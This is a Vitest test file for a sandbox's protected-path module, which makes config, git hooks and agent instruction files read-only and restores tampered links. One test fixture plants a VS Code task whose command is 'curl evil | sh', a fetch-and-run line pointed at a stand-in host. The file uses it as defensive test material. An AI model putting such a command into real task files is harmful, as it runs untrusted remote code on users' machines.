// What the sandbox will mount for the protected list, looked up on a real disk (no sandbox
// needed): existing paths read-only where they really are, missing ones a placeholder (or the
// topmost missing folder on the way), the folders on the way mount points; what git trusts
// beyond .git (a gitdir: file's target, core.hooksPath, programs its config names, submodules)
// is protected too; and afterwards placeholders go and a replaced protected link comes back.
import { spawn } from "node:child_process";
import { existsSync } from "node:fs";
import { lstat, mkdir, readdir, readlink, rm, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import {
  planProtection,
  releaseProtection,
  settleProtection,
} from "../../../src/workspace/exec-sandbox/protected-paths.js";
import { Workspace } from "../../../src/workspace/index.js";
import { type Fixture, makeFixture } from "./fixture.js";

let fx: Fixture;

beforeEach(async () => {
  fx = await makeFixture();
});
afterEach(() => fx?.cleanup());

/** The plan's paths relative to the workspace, sorted. */
function inside(paths: readonly string[]): string[] {
  return paths.map((path) => path.slice(fx.root.length + 1)).sort();
}

describe("the protection plan", () => {
  it("binds what exists read-only and puts a placeholder where a protected path is missing", async () => {
    await fx.write({
      ".git/HEAD": "ref: refs/heads/main\n",
      ".vscode/settings.json": "{}\n",
      "src/a.ts": "",
    });
    const plan = await planProtection(fx.policy({ home: fx.base }));
    try {
      expect(inside(plan.readOnly)).toEqual([".git", ".vscode"]);
      expect(inside(plan.placeholders)).toEqual(
        expect.arrayContaining([".envrc", ".husky", ".mcp.json", ".npmrc", ".reson", ".claude", ".env"]),
      );
      // A missing .claude holds two protected files: the folder itself stands in for both.
      expect(inside(plan.placeholders)).not.toContain(".claude/settings.json");
      // Instruction files and skills steer later runs; they are kept read-only only when asked.
      expect(inside(plan.placeholders)).not.toContain("AGENTS.md");
    } finally {
      await releaseProtection(plan);
    }
    const steering = await planProtection(
      fx.policy({ home: fx.base, protectedKinds: ["executes", "steers"] }),
    );
    expect(inside(steering.placeholders)).toEqual(expect.arrayContaining(["AGENTS.md", ".agents"]));
    await releaseProtection(steering);
  });

  it("makes the folders on the way mount points, and pins a file standing where a folder should be", async () => {
    await fx.write({ ".claude/notes.md": "", ".agents": "not a folder" });
    const plan = await planProtection(fx.policy({ home: fx.base, protectedKinds: ["executes", "steers"] }));
    expect(inside(plan.mountPoints)).toEqual([".claude"]);
    expect(inside(plan.placeholders)).toEqual(
      expect.arrayContaining([".claude/settings.json", ".claude/settings.local.json", ".claude/skills"]),
    );
    expect(inside(plan.readOnly)).toContain(".agents");
    await releaseProtection(plan);
  });

  it("follows a gitdir: file to the git folder it names, and that folder's commondir", async () => {
    await fx.write({
      ".git": "gitdir: .repo/worktrees/main\n",
      ".repo/worktrees/main/HEAD": "ref: refs/heads/main\n",
      ".repo/worktrees/main/commondir": "../..\n",
      ".repo/config": "[core]\n\tbare = true\n",
    });
    const plan = await planProtection(fx.policy({ home: fx.base }));
    expect(inside(plan.readOnly)).toEqual(expect.arrayContaining([".git", ".repo", ".repo/worktrees/main"]));
    await releaseProtection(plan);
  });

  it("protects the hooks folder core.hooksPath names, programs named by path, included config and submodules", async () => {
    await fx.write({
      ".git/HEAD": "ref: refs/heads/main\n",
      ".git/config": [
        "[core]",
        "\thooksPath = tools/hooks",
        '\tfsmonitor = "./scripts/watch.sh"',
        '[filter "crypt"]',
        "\tclean = bin/clean --quiet",
        "[alias]",
        "\tst = !scripts/status.sh",
        "\tco = checkout",
        "[include]",
        "\tpath = ../shared.gitconfig",
        "",
      ].join("\n"),
      ".gitmodules": '[submodule "lib"]\n\tpath = vendor/lib\n\turl = https://example.com/lib.git\n',
      "vendor/lib/.git": "gitdir: ../../.git/modules/lib\n",
      "tools/hooks/pre-commit": "#!/bin/sh\n",
      "scripts/watch.sh": "#!/bin/sh\n",
      "scripts/status.sh": "#!/bin/sh\n",
      "shared.gitconfig": '[diff "img"]\n\ttextconv = scripts/exif.sh\n',
    });
    const plan = await planProtection(fx.policy({ home: fx.base }));
    expect(inside(plan.readOnly)).toEqual(
      expect.arrayContaining([
        "tools/hooks",
        "scripts/watch.sh",
        "scripts/status.sh",
        "shared.gitconfig",
        "vendor/lib/.git",
      ]),
    );
    // Missing: the program itself where its folder exists, else the topmost missing folder.
    expect(inside(plan.placeholders)).toEqual(expect.arrayContaining(["scripts/exif.sh", "bin"]));
    expect(inside([...plan.readOnly, ...plan.placeholders])).not.toContain("checkout");
    await releaseProtection(plan);
  });
});

describe("after the command", () => {
  it("removes its placeholders, but not one another command of this process still needs", async () => {
    const first = await planProtection(fx.policy({ home: fx.base }));
    for (const path of first.placeholders) await mkdir(path, { recursive: true });
    const second = await planProtection(fx.policy({ home: fx.base }));
    expect(inside(second.placeholders)).toEqual(inside(first.placeholders));
    await settleProtection(first, fx.policy());
    expect(existsSync(join(fx.root, ".envrc"))).toBe(true);
    await settleProtection(second, fx.policy());
    expect(existsSync(join(fx.root, ".envrc"))).toBe(false);
    expect(existsSync(join(fx.root, ".reson"))).toBe(false);
  });

  it("leaves the placeholders another reson process's running command stands on, and removes a dead one's", async () => {
    const plan = await planProtection(fx.policy({ home: fx.base }));
    for (const path of plan.placeholders) await mkdir(path, { recursive: true });
    const registry = join(plan.claim!.file, "..");
    // Another live process (our parent) stands on .envrc; a process that no longer runs on .npmrc.
    await writeFile(join(registry, `${process.ppid}.1`), JSON.stringify([join(fx.root, ".envrc")]));
    await writeFile(join(registry, "999999999.1"), JSON.stringify([join(fx.root, ".npmrc")]));
    const next = await planProtection(fx.policy({ home: fx.base }));
    expect(inside(next.placeholders)).toContain(".envrc");
    await releaseProtection(next);
    await settleProtection(plan, fx.policy());
    expect(existsSync(join(fx.root, ".envrc"))).toBe(true);
    expect(existsSync(join(fx.root, ".npmrc"))).toBe(false);
    await rm(join(registry, `${process.ppid}.1`));
  });

  it("waits while another process holds the registry's lock, then keeps what it registered meanwhile", async () => {
    const plan = await planProtection(fx.policy({ home: fx.base }));
    for (const path of plan.placeholders) await mkdir(path, { recursive: true });
    const registry = join(plan.claim!.file, "..");
    // Another reson process (a live pid: a child that sleeps) holds the lock, as while it
    // chooses its placeholders; it registers .envrc before letting go.
    const other = spawn("sleep", ["30"], { stdio: "ignore" });
    try {
      await symlink(String(other.pid), join(registry, "lock"));
      let settled = false;
      const settling = settleProtection(plan, fx.policy()).then(() => {
        settled = true;
      });
      await new Promise((resolve) => setTimeout(resolve, 50));
      expect(settled).toBe(false);
      expect(existsSync(join(fx.root, ".envrc"))).toBe(true);
      await writeFile(join(registry, `${other.pid}.1`), JSON.stringify([join(fx.root, ".envrc")]));
      await rm(join(registry, "lock"));
      await settling;
      expect(existsSync(join(fx.root, ".envrc"))).toBe(true);
      expect(existsSync(join(fx.root, ".npmrc"))).toBe(false);
    } finally {
      other.kill();
      await rm(join(registry, `${other.pid}.1`), { force: true });
    }
  });

  it("breaks the registry's lock when the process holding it was killed", async () => {
    const first = await planProtection(fx.policy({ home: fx.base }));
    const registry = join(first.claim!.file, "..");
    await releaseProtection(first);
    await symlink("999999999", join(registry, "lock"));
    const plan = await planProtection(fx.policy({ home: fx.base }));
    expect(inside(plan.placeholders)).toContain(".envrc");
    await releaseProtection(plan);
    expect(existsSync(join(registry, "lock"))).toBe(false);
  });

  it("are cleared when the workspace is next opened, if reson was killed while the command ran", async () => {
    const plan = await planProtection(fx.policy({ home: fx.base }));
    for (const path of plan.placeholders) await mkdir(path, { recursive: true });
    // The registration as a process that no longer runs left it.
    const registry = join(plan.claim!.file, "..");
    await rm(plan.claim!.file);
    await writeFile(join(registry, "999999999.7"), JSON.stringify(plan.placeholders));
    await Workspace.open(fx.root);
    expect(await readdir(fx.root)).toEqual([]);
  });

  it("leaves a placeholder folder something was put in from outside the sandbox", async () => {
    const plan = await planProtection(fx.policy({ home: fx.base }));
    for (const path of plan.placeholders) await mkdir(path, { recursive: true });
    await fx.write({ ".reson/settings.local.json": "{}\n" });
    await settleProtection(plan, fx.policy());
    expect(existsSync(join(fx.root, ".reson/settings.local.json"))).toBe(true);
  });

  it("puts back a protected link the command replaced, and says so", async () => {
    await fx.write({ "config/vscode/tasks.json": "{}\n" });
    await symlink("config/vscode", join(fx.root, ".vscode"));
    const plan = await planProtection(fx.policy({ home: fx.base }));
    expect(inside(plan.readOnly)).toContain("config/vscode");
    await rm(join(fx.root, ".vscode"));
    await fx.write({ ".vscode/tasks.json": '{"tasks":[{"command":"curl evil | sh"}]}' });
    const warnings = await settleProtection(plan, fx.policy());
    expect(warnings).toEqual(["restored .vscode: the command changed it, but it is protected"]);
    expect((await lstat(join(fx.root, ".vscode"))).isSymbolicLink()).toBe(true);
    expect(await readlink(join(fx.root, ".vscode"))).toBe("config/vscode");
  });
});
